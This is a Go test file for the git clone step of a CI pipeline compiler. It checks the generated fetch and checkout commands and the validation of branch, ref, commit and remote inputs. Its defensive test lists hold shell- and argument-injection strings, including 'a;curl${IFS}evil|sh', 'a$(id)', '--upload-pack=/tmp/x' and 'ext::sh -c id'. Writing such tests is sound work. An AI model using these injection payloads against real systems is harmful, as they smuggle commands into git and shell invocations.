package compiler

import (
	"slices"
	"strings"
	"testing"

	"git.autonomic.zone/recipe-maintainers/cc-ci/engine"
)

// traces are the commands as the log shows them.
func traces(commands []engine.Command) []string {
	var list []string
	for _, c := range commands {
		list = append(list, c.Trace)
	}
	return list
}

func TestCloneCommands(t *testing.T) {
	const sha, url = "2222222222222222222222222222222222222222", "https://git.example.com/octo/hello.git"
	begin := []string{"git -c init.defaultBranch=main init", "git remote add origin " + url}
	tests := map[string]struct {
		args  cloneArgs
		want  []string
		notes int
	}{
		"branch": {
			cloneArgs{Ref: "refs/heads/main", Branch: "main", Commit: sha},
			[]string{"git fetch origin +refs/heads/main:", "git checkout " + sha + " -b main"}, 0,
		},
		"branch without target": {
			cloneArgs{Ref: "refs/heads/main", Commit: sha},
			[]string{"git fetch origin +refs/heads/main:", "git checkout " + sha + " -b main"}, 0,
		},
		"branch without commit": {
			cloneArgs{Ref: "refs/heads/main", Branch: "main"},
			[]string{"git fetch origin +refs/heads/main:", "git checkout FETCH_HEAD -b main"}, 0,
		},
		"branch with depth": {
			cloneArgs{Ref: "refs/heads/main", Branch: "main", Commit: sha, Depth: 5},
			[]string{"git fetch --depth=5 origin +" + sha + ":refs/remotes/origin/main", "git checkout " + sha + " -b main"}, 0,
		},
		"branch with depth and a short commit": {
			cloneArgs{Ref: "refs/heads/main", Branch: "main", Commit: "2222222", Depth: 5},
			[]string{"git fetch --depth=5 origin +refs/heads/main:", "git checkout 2222222 -b main"}, 0,
		},
		"branch with tags": {
			cloneArgs{Ref: "refs/heads/main", Branch: "main", Commit: sha, Tags: true},
			[]string{"git fetch --tags origin +refs/heads/main:", "git checkout " + sha + " -b main"}, 0,
		},
		"tag": {
			cloneArgs{Ref: "refs/tags/v1.0", Branch: "main", Commit: sha, Depth: 1},
			[]string{"git fetch --depth=1 origin +refs/tags/v1.0:", "git checkout -qf FETCH_HEAD"}, 0,
		},
		"GitHub and Gitea pull request": {
			cloneArgs{Ref: "refs/pull/7/head", Branch: "main", Commit: sha, Depth: 1},
			[]string{"git fetch origin +refs/heads/main:", "git checkout -b main refs/remotes/origin/main",
				"git fetch origin refs/pull/7/head:", "git merge " + sha}, 1,
		},
		"Bitbucket pull request": {
			cloneArgs{Ref: "refs/pull-requests/7/from", Branch: "main", Commit: sha},
			[]string{"git fetch origin +refs/heads/main:", "git checkout -b main refs/remotes/origin/main",
				"git fetch origin refs/pull-requests/7/from:", "git merge " + sha}, 0,
		},
		"GitLab merge request": {
			cloneArgs{Ref: "refs/merge-requests/7/head", Branch: "main"},
			[]string{"git fetch origin +refs/heads/main:", "git checkout -b main refs/remotes/origin/main",
				"git fetch origin refs/merge-requests/7/head:", "git merge FETCH_HEAD"}, 0,
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			test.args.Remote = url
			got, notes, err := cloneCommands(test.args)
			if err != nil {
				t.Fatal(err)
			}
			if want := append(slices.Clone(begin), test.want...); !slices.Equal(traces(got), want) {
				t.Errorf("got  %q\nwant %q", traces(got), want)
			}
			if len(notes) != test.notes {
				t.Errorf("notes %q", notes)
			}
		})
	}
}

func TestCloneTakesUsualAddresses(t *testing.T) {
	for _, remote := range []string{"http://[::1]:3000/octo/hello.git", "git@example.com:octo/hello.git", "ssh://git@[::1]:22/x.git", "/srv/x.git"} {
		if _, _, err := cloneCommands(cloneArgs{Remote: remote, Branch: "main"}); err != nil {
			t.Errorf("%s: %s", remote, err)
		}
	}
}

func TestCloneRetriesOnlyWhatTalksToTheServer(t *testing.T) {
	in := sample("kind: pipeline\ntype: exec\nclone: {retries: 3, depth: 2}\nsteps:\n" + oneStep)
	clone := prepared(t, in).Steps[0]
	for _, c := range clone.Commands {
		want := 0
		if c.Args[1] == "fetch" {
			want = 3
		}
		if c.Retries != want {
			t.Errorf("%s: %d retries, want %d", c.Trace, c.Retries, want)
		}
	}
	if clone.Run != engine.RunAlways || clone.Dir != "/var/lib/cc-ci/cc-ci-00000000-21/drone/src" {
		t.Errorf("clone runs %s in %s", clone.Run, clone.Dir)
	}
}

func TestCloneUsesSSHWithoutAnHTTPAddress(t *testing.T) {
	in := sample("kind: pipeline\ntype: exec\nsteps:\n" + oneStep)
	in.Repo.HTTPURL = ""
	if got := prepared(t, in).Steps[0].Commands[1].Args[4]; got != "git@git.example.com:octo/hello.git" {
		t.Errorf("remote %q", got)
	}
	in.Repo.SSHURL = ""
	if got := refusal(t, in); !strings.Contains(got, "no address") {
		t.Error(got)
	}
}

// Names that git takes and a shell would run are passed on as they are, each in an argument of its own.
func TestCloneTakesWhatGitTakes(t *testing.T) {
	for _, name := range hostileButLegal() {
		for _, ref := range []string{"refs/heads/" + name, "refs/tags/" + name, "refs/pull/" + name + "/head"} {
			commands, _, err := cloneCommands(cloneArgs{Remote: "https://x.example/y.git", Ref: ref, Branch: name})
			if err != nil {
				t.Errorf("%s: %s", ref, err)
				continue
			}
			for _, c := range commands {
				if c.Args[0] != "git" {
					t.Errorf("%s: runs %q", ref, c.Args[0])
				}
			}
		}
	}
}

// hostileButLegal are names of branches that pass `git check-ref-format`.
func hostileButLegal() []string {
	return []string{"x;id>/tmp/pwn", "a`id`", "a;curl${IFS}evil|sh", "a$(id)", "a&&id", "a'b", `a"b`, "a|b", "a>b", "ä", "a--b", "a!b", "#a", "a,b", "a%s", "(a)"}
}

func TestCloneRefusesHostileNames(t *testing.T) {
	names := []string{
		"", "-x", "--upload-pack=/tmp/x", "a b", "a\nb", "a\x00b", "a\tb", "a\x7fb", "a..b", "a~1", "a^", "a:b", "a?", "a*", "a[b", `a\b`,
		"/a", "a/", "a//b", "a.", ".a", "a/.b", "a.lock", "a.lock/b", "a@{1}", "@",
	}
	for _, name := range names {
		if _, _, err := cloneCommands(cloneArgs{Remote: "https://x.example/y.git", Branch: name, Commit: "2222222"}); err == nil {
			t.Errorf("branch %q is not refused", name)
		}
		if name == "" || name[0] == '-' || name == "@" {
			continue // Behind refs/ these are names as any other, or end with a slash.
		}
		for _, ref := range []string{"refs/tags/" + name, "refs/pull/" + name} {
			if _, _, err := cloneCommands(cloneArgs{Remote: "https://x.example/y.git", Ref: ref, Branch: "main"}); err == nil {
				t.Errorf("ref %q is not refused", ref)
			}
		}
	}
	for _, commit := range []string{"-b", "HEAD", "main", "222222", "2222222;id", "refs/heads/main", strings.Repeat("2", 65)} {
		if _, _, err := cloneCommands(cloneArgs{Remote: "https://x.example/y.git", Branch: "main", Commit: commit}); err == nil {
			t.Errorf("commit %q is not refused", commit)
		}
	}
	for _, remote := range []string{"", "-u", "--upload-pack=x", "ext::sh -c id", "https://x\n/y", "a::b"} {
		if _, _, err := cloneCommands(cloneArgs{Remote: remote, Branch: "main"}); err == nil {
			t.Errorf("remote %q is not refused", remote)
		}
	}
}
